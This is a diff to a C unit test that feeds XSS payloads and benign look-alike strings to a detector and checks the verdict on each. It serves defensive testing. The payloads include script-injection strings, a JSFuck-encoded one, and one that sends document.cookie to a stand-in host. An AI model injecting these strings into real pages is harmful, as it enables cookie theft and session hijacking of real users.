@@ -176,6 +176,8 @@ static void test_xss_table(void **st)
 		{"js break paren", "');this.src='//x.example/'+document.cookie;//", Q, DP_XSS},
 		{"template literal", "${alert(document.domain)}", Q, DP_XSS},
 		{"svg animate values", "<svg><animate attributeName=href values=javascript:alert(1) />", Q, DP_XSS},
+		{"jsfuck", "[][(![]%2B[])[%2B[]]%2B(![]%2B[])[!%2B[]%2B!%2B[]]%2B(![]%2B[])[%2B!%2B[]]%2B(!![]%2B[])[%2B[]]]", Q, DP_XSS},
+		{"numeric js context", "1;confirm(document.domain)//", Q, DP_XSS},
 		{"client template", "{{x.constructor.constructor('confirm(2)')()}}", Q, DP_XSS},
 		{"utf-7 markup", "%2BADw-img src=1 onerror=x%2BAD4-", Q, DP_XSS},
 		{"meta utf-7", "<meta http-equiv=content-type content=\"text/html;charset=utf-7\">", Q, DP_XSS},
@@ -199,6 +201,8 @@ static void test_xss_table(void **st)
 		{"jsx handler", "onClick={() => setOpen(true)}", Q, DP_NONE},
 		{"mustache name", "Dear {{ customer.first_name }},", Q, DP_NONE},
 		{"plus word", "C++ and +add-ons", Q, DP_NONE},
+		{"brackets prose", "[see (1)] [and (2)] [or (3)] !!! (yes) [ok] [a] [b] [c] [d]", Q, DP_NONE},
+		{"number then words", "3;print the page", Q, DP_NONE},
 	};
 	run_table(t, sizeof(t) / sizeof(t[0]));
 }
